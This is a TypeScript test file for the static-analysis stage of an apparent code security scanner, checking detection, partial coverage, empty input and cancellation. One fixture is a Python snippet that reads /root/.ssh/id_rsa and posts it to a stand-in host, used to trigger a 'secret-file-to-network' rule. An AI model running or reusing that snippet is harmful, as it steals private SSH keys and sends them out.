import { describe, expect, it } from 'vitest';
import type { StageContext } from '../../../src/model/stage.ts';
import type { Target } from '../../../src/model/target.ts';
import { staticStage } from '../../../src/static/stage.ts';

const CONTEXT: StageContext = {
  policy: { schema: 'sbx.policy/1', reject: [], review: [], require: [], guarantees: [], deny: {} },
  manifest: null,
  backend: 'none',
  online: false,
  python: null,
  image: null,
  ruleFolders: [],
  signal: new AbortController().signal,
  progress: () => undefined,
  earlier: [],
};

function target(files: Record<string, string | Uint8Array>, opaque: Target['opaque'] = []): Target {
  const paths = Object.keys(files).sort();
  return {
    path: 'x',
    kind: 'directory',
    absolutePath: '/nonexistent',
    digest: 'sha256:0',
    files: paths.map((path) => {
      const content = Buffer.from(files[path] ?? '');
      return { path, size: content.length, digest: null, executable: false, content };
    }),
    opaque,
    units: [{ path: '.', kind: 'files', name: 'x', files: paths }],
  };
}

describe('staticStage', () => {
  it('finds with the rules that ship', async () => {
    const outcome = await staticStage.run(
      target({
        'a.py':
          'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://h.example", data=k)\n',
      }),
      CONTEXT,
    );
    expect(outcome.status).toBe('done');
    expect(outcome.findings.map((finding) => finding.ruleId)).toContain('secret-file-to-network');
    expect(outcome.evidence.map((each) => each.capability)).toContain('secret.read');
    expect(outcome.coverage).toMatchObject({ files: 1, analysed: 1, opaque: [] });
  });

  it('is partial, with a gap for the unit, when something could not be looked at', async () => {
    const outcome = await staticStage.run(
      target({ 'a.txt': 'hello' }, [{ path: 'big.py', reason: 'too large', blocking: true }]),
      CONTEXT,
    );
    expect(outcome.status).toBe('partial');
    expect(outcome.gaps).toEqual([{ unit: '.', reason: 'big.py was not analysed: too large.' }]);
    expect(outcome.coverage?.opaque).toHaveLength(1);
  });

  it('has nothing to say of nothing', async () => {
    expect((await staticStage.run(target({}), CONTEXT)).status).toBe('not-applicable');
  });

  it('stops when it is interrupted', async () => {
    const controller = new AbortController();
    controller.abort(new Error('stop'));
    await expect(
      staticStage.run(target({ 'a.py': 'x = 1' }), { ...CONTEXT, signal: controller.signal }),
    ).rejects.toThrow('stop');
  });
});
